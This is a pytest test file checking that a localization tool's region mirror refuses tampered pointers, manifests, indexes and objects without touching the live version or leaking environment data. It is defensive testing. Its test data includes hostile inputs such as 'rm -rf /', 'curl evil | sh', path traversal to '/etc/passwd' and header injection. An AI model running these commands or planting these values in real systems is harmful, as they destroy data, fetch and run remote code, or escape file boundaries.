"""Hostile regions: a bucket that serves malformed pointers, manifests, indexes and objects to a mirror.

Each case plants one bad thing in an otherwise good region, pulls, and asserts the exact error (a
LocalizeError, never a traceback), that the mirror's live version is untouched, and that nothing of
the environment reaches any file the mirror wrote.
"""

from __future__ import annotations

import hashlib
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from localize.errors import IntegrityError, LocalizeError
from localize.model import Catalog
from localize.regions.bundle import make_bundle
from localize.regions.layout import read_pointer
from localize.regions.publish import publish_bundle
from localize.regions.pull import live_version, pull, pull_all
from localize.regions.schema import manifest_key, object_key, pointer_key, to_json
from localize.storage.base import LocalStorage
from localize.storage.sources import FolderSource

from .conftest import assert_no_leak

C, L = "course", "es"


@pytest.fixture
def region(tmp_path: Path) -> tuple[LocalStorage, Path, str]:
    """A region with two versions of a course and a mirror at the first; returns (storage, mirror, first)."""
    src = tmp_path / "src"
    (src / "img").mkdir(parents=True)
    (src / "index.html").write_text("<html><body><p>one</p></body></html>")
    (src / "img" / "a.png").write_bytes(b"png" * 10)
    storage = LocalStorage(tmp_path / "region")
    with make_bundle(FolderSource(src), Catalog(), L) as b:
        first = publish_bundle(storage, "r", C, L, b, Catalog()).version
    mirror = tmp_path / "mirror"
    pull(str(tmp_path / "region"), C, L, mirror)
    (src / "index.html").write_text("<html><body><p>two</p></body></html>")
    with make_bundle(FolderSource(src), Catalog(), L) as b:
        publish_bundle(storage, "r", C, L, b, Catalog())
    assert first is not None
    return storage, mirror, first


def live(storage: LocalStorage) -> tuple[dict[str, Any], dict[str, Any]]:
    pointer = json.loads(storage.read_bytes(pointer_key(C, L)))
    return pointer, json.loads(storage.read_bytes(pointer["manifest"]))


def plant_pointer(storage: LocalStorage, change: Callable[[dict[str, Any]], Any]) -> None:
    pointer, _ = live(storage)
    new = change(pointer)
    storage.write_bytes(
        pointer_key(C, L), new if isinstance(new, bytes) else to_json(new if new is not None else pointer)
    )


def plant_manifest(storage: LocalStorage, change: Callable[[dict[str, Any]], Any]) -> None:
    """Change the live manifest and re-hash it into the pointer (as an attacker with bucket write would)."""
    pointer, manifest = live(storage)
    new = change(manifest)
    data = new if isinstance(new, bytes) else to_json(new if new is not None else manifest)
    storage.write_bytes(pointer["manifest"], data)
    pointer["manifest_sha256"] = hashlib.sha256(data).hexdigest()
    storage.write_bytes(pointer_key(C, L), to_json(pointer))


def refused(storage: LocalStorage, mirror: Path, first: str, expected: str) -> None:
    before = {p.relative_to(mirror).as_posix(): p.read_bytes() for p in (mirror / C / L).rglob("*") if p.is_file()}
    with pytest.raises(LocalizeError) as info:
        pull(storage.describe(), C, L, mirror)
    assert expected in str(info.value), str(info.value)
    assert live_version(mirror, C, L) == first
    after = {p.relative_to(mirror).as_posix(): p.read_bytes() for p in (mirror / C / L).rglob("*") if p.is_file()}
    assert after == before
    assert not (mirror / "manifests").exists() and not (mirror.parent / "escaped").exists()
    assert_no_leak(mirror)


def _set(key: str, value: Any) -> Callable[[dict[str, Any]], None]:
    return lambda d: d.__setitem__(key, value)


def _drop(key: str) -> Callable[[dict[str, Any]], None]:
    return lambda d: d.__delitem__(key)


POINTERS: dict[str, tuple[Callable[[dict[str, Any]], Any], str]] = {
    "version-manifests": (_set("version", "manifests"), "malformed pointer: version: must be a version id"),
    "version-dotdot": (_set("version", ".."), "malformed pointer: version: must be a version id"),
    "version-traversal": (_set("version", "../../escaped"), "malformed pointer: version: must be a version id"),
    "version-int": (_set("version", 20240101), "malformed pointer: version: must be a version id"),
    "version-null": (_set("version", None), "malformed pointer: version: must be a version id"),
    "version-staging": (_set("version", ".staging-x"), "malformed pointer: version: must be a version id"),
    "version-newline": (_set("version", "20240101T000000.000Z-0123abcd\n"), "malformed pointer: version: must be"),
    "version-missing": (_drop("version"), "malformed pointer: version: is missing"),
    "manifest-elsewhere": (
        _set("manifest", "courses/other/es/versions/x.json"),
        "malformed pointer: manifest: must be",
    ),
    "manifest-absolute": (_set("manifest", "/etc/passwd"), "malformed pointer: manifest: must be"),
    "manifest-canary-env": (_set("manifest", "${LOCALIZE_TEST_CANARY}"), "malformed pointer: manifest: must be"),
    "manifest-list": (_set("manifest", ["a"]), "malformed pointer: manifest: must be"),
    "sha-short": (_set("manifest_sha256", "abc"), "malformed pointer: manifest_sha256: must be 64 lowercase hex"),
    "sha-upper": (
        lambda d: d.__setitem__("manifest_sha256", d["manifest_sha256"].upper()),
        "manifest_sha256: must be 64",
    ),
    "sha-missing": (_drop("manifest_sha256"), "malformed pointer: manifest_sha256: is missing"),
    "previous-bad": (_set("previous", "../x"), "malformed pointer: previous: must be a version id"),
    "course-other": (_set("course", "other"), "malformed pointer: course: says 'other' where 'course' was expected"),
    "locale-other": (_set("locale", "ar"), "malformed pointer: locale: says 'ar' where 'es' was expected"),
    "extra-field": (_set("exec", "rm -rf /"), "malformed pointer: 'exec': is not a field of this schema"),
    "updated-object": (_set("updated", {"x": 1}), "malformed pointer: updated: must be a string"),
    "top-list": (lambda d: b"[1, 2, 3]", "malformed pointer: (top level): must be an object, got list"),
    "top-string": (lambda d: b'"hello"', "malformed pointer: (top level): must be an object, got str"),
    "not-json": (lambda d: b"{not json", "the pointer is not valid UTF-8 JSON"),
    "not-utf8": (lambda d: b'{"version": "\xff\xfe"}', "the pointer is not valid UTF-8 JSON"),
    "nan": (lambda d: b'{"version": NaN}', "the pointer is not valid UTF-8 JSON"),
    "deep-nesting": (lambda d: b"[" * 100_000 + b"]" * 100_000, "the pointer is"),
    "huge": (lambda d: b" " * (70 * 1024) + b"{}", "the pointer is larger than 65536 bytes"),
    "empty": (lambda d: b"", "the pointer is not valid UTF-8 JSON"),
}


@pytest.mark.parametrize("case", sorted(POINTERS))
def test_malformed_pointer_is_refused(region: tuple[LocalStorage, Path, str], case: str) -> None:
    storage, mirror, first = region
    change, expected = POINTERS[case]
    plant_pointer(storage, change)
    refused(storage, mirror, first, expected)


def _file(i: int, key: str, value: Any) -> Callable[[dict[str, Any]], None]:
    return lambda m: m["files"][i].__setitem__(key, value)


def _file_path(path: str) -> Callable[[dict[str, Any]], None]:
    return _file(0, "path", path)


MANIFESTS: dict[str, tuple[Callable[[dict[str, Any]], Any], str]] = {
    "path-dotdot": (_file_path("../../escaped/x.html"), "files[0].path: must be a safe relative path"),
    "path-absolute": (_file_path("/tmp/escaped"), "files[0].path: must be a safe relative path"),
    "path-backslash": (_file_path("..\\..\\escaped"), "files[0].path: must be a safe relative path"),
    "path-drive": (_file_path("C:/windows/x"), "files[0].path: must be a safe relative path"),
    "path-empty": (_file_path(""), "files[0].path: must be a safe relative path"),
    "path-dot": (_file_path("./index.html"), "files[0].path: must be a safe relative path"),
    "path-double-slash": (_file_path("img//a.png"), "files[0].path: must be a safe relative path"),
    "path-trailing-slash": (_file_path("img/"), "files[0].path: must be a safe relative path"),
    "path-nul": (_file_path("a\x00.html"), "files[0].path: must be a safe relative path"),
    "path-newline": (_file_path("a\n.html"), "files[0].path: must be a safe relative path"),
    "path-escape-seq": (_file_path("\x1b[31mred.html"), "files[0].path: must be a safe relative path"),
    "path-long": (_file_path("a/" * 600 + "x"), "files[0].path: must be a safe relative path"),
    "path-int": (_file_path(7), "files[0].path: must be a safe relative path"),
    "path-duplicate": (lambda m: m["files"][1].__setitem__("path", m["files"][0]["path"]), "is listed twice"),
    "path-file-and-folder": (_file(1, "path", "img/a.png/inner"), "'img/a.png' is both a file and a folder"),
    "sha-short": (_file(0, "sha256", "abc"), "files[0]: sha256: must be 64 lowercase hex digits"),
    "sha-traversal": (_file(0, "sha256", "../../../../etc/passwd"), "files[0]: sha256: must be 64 lowercase hex"),
    "sha-upper": (lambda m: m["files"][0].__setitem__("sha256", m["files"][0]["sha256"].upper()), "sha256: must be 64"),
    "size-negative": (_file(0, "size", -1), "files[0]: size: must be a whole number"),
    "size-float": (_file(0, "size", 1.5), "files[0]: size: must be a whole number"),
    "size-string": (_file(0, "size", "12"), "files[0]: size: must be a whole number"),
    "size-bool": (_file(0, "size", True), "files[0]: size: must be a whole number"),
    "size-huge": (_file(0, "size", 10**30), "files[0]: size: must be a whole number"),
    "content-type-header-injection": (
        _file(0, "content_type", "text/html\r\nX-Evil: 1"),
        "content_type: must be a short",
    ),
    "record-extra": (_file(0, "mode", 0o777), "files[0].'mode': is not a field of this schema"),
    "record-missing": (lambda m: m["files"][0].__delitem__("size"), "files[0].size: is missing"),
    "record-not-object": (lambda m: m["files"].__setitem__(0, "index.html"), "files[0]: must be an object, got str"),
    "files-not-list": (_set("files", {"index.html": {}}), "files: must be a list, got dict"),
    "files-missing": (_drop("files"), "malformed manifest: files: is missing"),
    "schema-2": (_set("schema", 2), "malformed manifest: schema: must be 1"),
    "schema-string": (_set("schema", "1"), "malformed manifest: schema: must be 1"),
    "schema-missing": (_drop("schema"), "malformed manifest: schema: must be 1"),
    "course-mismatch": (_set("course", "other"), "course: says 'other' where 'course' was expected"),
    "locale-mismatch": (_set("locale", "ar"), "locale: says 'ar' where 'es' was expected"),
    "version-mismatch": (
        _set("version", "20000101T000000.000Z-00000000"),
        "version: says '20000101T000000.000Z-00000000'",
    ),
    "previous-traversal": (_set("previous", "../.."), "malformed manifest: previous: must be a version id"),
    "omitted-traversal": (_set("omitted", ["../x"]), "omitted: must be a list of safe relative paths"),
    "stats-list": (_set("stats", [1]), "malformed manifest: stats: must be an object"),
    "build-key-bad": (_set("build_key", "nope"), "build_key: must be 64 lowercase hex"),
    "catalog-sha-bad": (_set("catalog_sha256", 5), "catalog_sha256: must be 64 lowercase hex"),
    "created-bad": (_set("created", "yesterday"), "created: must be an ISO 8601 time"),
    "extra-top-field": (_set("post_install", "curl evil | sh"), "'post_install': is not a field of this schema"),
    "top-null": (lambda m: b"null", "malformed manifest: (top level): must be an object, got NoneType"),
    "not-json": (lambda m: b"\x00\x01", "the manifest is not valid UTF-8 JSON"),
    "deep-nesting": (lambda m: b'{"files": ' + b"[" * 100_000 + b"]" * 100_000 + b"}", "the manifest is"),
}


@pytest.mark.parametrize("case", sorted(MANIFESTS))
def test_malformed_manifest_is_refused(region: tuple[LocalStorage, Path, str], case: str) -> None:
    storage, mirror, first = region
    change, expected = MANIFESTS[case]
    plant_manifest(storage, change)
    refused(storage, mirror, first, expected)


def test_manifest_not_matching_its_pointer_is_refused(region: tuple[LocalStorage, Path, str]) -> None:
    storage, mirror, first = region
    pointer, manifest = live(storage)
    manifest["files"][0]["sha256"] = "0" * 64
    storage.write_bytes(pointer["manifest"], to_json(manifest))  # not re-hashed into the pointer
    refused(storage, mirror, first, "does not match its pointer; not switching")


def test_missing_manifest_is_refused(region: tuple[LocalStorage, Path, str]) -> None:
    storage, mirror, first = region
    storage.delete(live(storage)[0]["manifest"])
    refused(storage, mirror, first, "the manifest of live version")


def objects_of(storage: LocalStorage) -> list[dict[str, Any]]:
    return list(live(storage)[1]["files"])


def test_object_larger_than_its_record_is_not_read_past_its_size(region: tuple[LocalStorage, Path, str]) -> None:
    storage, mirror, first = region
    record = next(f for f in objects_of(storage) if f["path"] == "index.html")
    storage.write_bytes(object_key(record["sha256"]), b"A" * (10 * 1024 * 1024))
    refused(storage, mirror, first, f"larger than the {record['size']} bytes the manifest records")


def test_object_shorter_than_its_record_is_refused(region: tuple[LocalStorage, Path, str]) -> None:
    storage, mirror, first = region
    record = next(f for f in objects_of(storage) if f["path"] == "index.html")
    storage.write_bytes(object_key(record["sha256"]), b"<p>")
    refused(storage, mirror, first, f"index.html: expected sha256 {record['sha256']}")


def test_object_with_canary_bytes_is_refused(region: tuple[LocalStorage, Path, str]) -> None:
    import os

    storage, mirror, first = region
    record = next(f for f in objects_of(storage) if f["path"] == "index.html")
    evil = os.environ["LOCALIZE_TEST_CANARY"].encode().ljust(record["size"], b" ")[: record["size"]]
    storage.write_bytes(object_key(record["sha256"]), evil)
    refused(storage, mirror, first, "the region's copy is damaged or was tampered with")


def test_missing_object_is_refused(region: tuple[LocalStorage, Path, str]) -> None:
    storage, mirror, first = region
    record = next(f for f in objects_of(storage) if f["path"] == "index.html")
    storage.delete(object_key(record["sha256"]))
    refused(storage, mirror, first, "index.html: the region lacks this object")


INDEXES = {
    "not-json": (b"{", "the region index is not valid UTF-8 JSON"),
    "courses-list": (b'{"courses": []}', "malformed region index: courses must be an object"),
    "locales-string": (b'{"courses": {"course": "es"}}', "malformed region index: courses['course'] must map"),
    "top-number": (b"42", "malformed region index"),
}


@pytest.mark.parametrize("case", sorted(INDEXES))
def test_malformed_index_is_refused_by_pull_all(region: tuple[LocalStorage, Path, str], case: str) -> None:
    storage, mirror, first = region
    data, expected = INDEXES[case]
    storage.write_bytes("index.json", data)
    with pytest.raises(IntegrityError) as info:
        pull_all(storage.describe(), mirror)
    assert expected in str(info.value)
    assert live_version(mirror, C, L) == first
    assert_no_leak(mirror)


@pytest.mark.parametrize(
    ("course", "expected"),
    [("../../escaped", "not a course and locale: course"), ("a/b", "not a course and locale: course"),
     (".localize", "not a course and locale: course"),
     ("course\n", "not a course and locale: course")],
)  # fmt: skip
def test_index_naming_a_path_instead_of_a_course_is_refused_per_entry(
    region: tuple[LocalStorage, Path, str], course: str, expected: str
) -> None:
    storage, mirror, first = region
    storage.write_bytes("index.json", to_json({"courses": {course: {"es": {}}, C: {"es": {}}}}))
    results = pull_all(storage.describe(), mirror)
    errors = [r for r in results if isinstance(r, LocalizeError)]
    assert len(errors) == 1 and expected in str(errors[0])
    assert not (mirror.parent / "escaped").exists()
    assert live_version(mirror, C, L) != first  # the good course still moved on


def test_version_folder_named_like_a_manifest_is_never_pruned_by_a_mirror(
    region: tuple[LocalStorage, Path, str],
) -> None:
    storage, mirror, _ = region
    keep = mirror / ".localize" / C / L / "notes"
    keep.mkdir()
    pull(storage.describe(), C, L, mirror)
    assert keep.is_dir() and (mirror / ".localize" / C / L / "manifests").is_dir()


def test_malformed_pointer_stops_a_publish_before_anything_is_written(
    region: tuple[LocalStorage, Path, str], tmp_path: Path
) -> None:
    storage, _, _ = region
    plant_pointer(storage, _set("version", "manifests"))
    before = sorted(storage.list(""))
    src = tmp_path / "src"
    (src / "index.html").write_text("<p>three</p>")
    with make_bundle(FolderSource(src), Catalog(), L) as b, pytest.raises(IntegrityError) as info:
        publish_bundle(storage, "r", C, L, b, Catalog())
    assert "malformed pointer: version: must be a version id" in str(info.value)
    assert sorted(storage.list("")) == before


def test_a_planted_manifest_in_the_versions_folder_is_ignored(region: tuple[LocalStorage, Path, str]) -> None:
    storage, _, _ = region
    storage.write_bytes(f"courses/{C}/{L}/versions/manifests.json", b"{}")
    from localize.regions.layout import versions

    assert "manifests" not in versions(storage, C, L)


def test_a_malformed_manifest_elsewhere_stops_garbage_collection_not_the_publish(
    region: tuple[LocalStorage, Path, str], tmp_path: Path
) -> None:
    storage, _, _ = region
    storage.write_bytes(manifest_key("other", L, "20200101T000000.000Z-00000000"), b"{broken")
    objects = sorted(storage.list("objects"))
    src = tmp_path / "src"
    for i in range(6):
        src.mkdir(exist_ok=True)
        (src / "index.html").write_text(f"<p>{i}</p>")
        with make_bundle(FolderSource(src), Catalog(), L) as b:
            publish_bundle(storage, "r", C, L, b, Catalog(), keep_versions=2, gc_grace_seconds=0)
    assert set(objects) <= set(storage.list("objects"))  # nothing deleted: a reference could not be read
    pointer, _ = read_pointer(storage, C, L)
    assert pointer is not None


def test_a_region_report_shows_its_own_courses_and_no_partner_contacts(tmp_path: Path) -> None:
    from test_publish import COURSE, setup_workspace

    from localize.app.regions import publish as app_publish
    from localize.config import load_config
    from localize.views.dashboard import collect

    regions = (
        '[[partners]]\nid = "andes"\nname = "Andes Uni"\nlocales = ["es"]\ncontact = "secret-es@andes.example"\n'
        'inbox = "inbox/andes"\n\n'
        '[[partners]]\nid = "nile"\nname = "Nile Institute"\nlocales = ["ar"]\ncontact = "secret-ar@nile.example"\n'
        'inbox = "inbox/nile"\n\n'
        '[[regions]]\nname = "latam"\nlocation = "latam"\nlocales = ["es"]\n\n'
        '[[regions]]\nname = "mena"\nlocation = "mena"\nlocales = ["ar"]\n'
    )
    config = load_config(setup_workspace(tmp_path, regions))
    app_publish(config, COURSE, "es", dashboard=True)
    app_publish(config, COURSE, "ar", dashboard=True)
    latam = (tmp_path / "latam" / "report.html").read_text(encoding="utf-8")
    mena = (tmp_path / "mena" / "report.html").read_text(encoding="utf-8")
    for page, own, other in ((latam, "es", "ar"), (mena, "ar", "es")):
        assert f'<td data-h="locale">{own}</td>' in page and f'<td data-h="locale">{other}</td>' not in page
        for secret in ("secret-es@andes.example", "secret-ar@nile.example", "Andes Uni", "Nile Institute", ".example"):
            assert secret not in page
    assert "latam:" in latam and "mena:" not in latam
    assert_no_leak(tmp_path / "latam", tmp_path / "mena")
    # the coordinators' own data keeps everything
    full = collect(
        __import__("localize.catalogs.workspace", fromlist=["Workspace"]).Workspace(str(tmp_path / "ws")), config
    )
    assert {g.get("contact") for g in full["groups"]} >= {"secret-es@andes.example", "secret-ar@nile.example"}
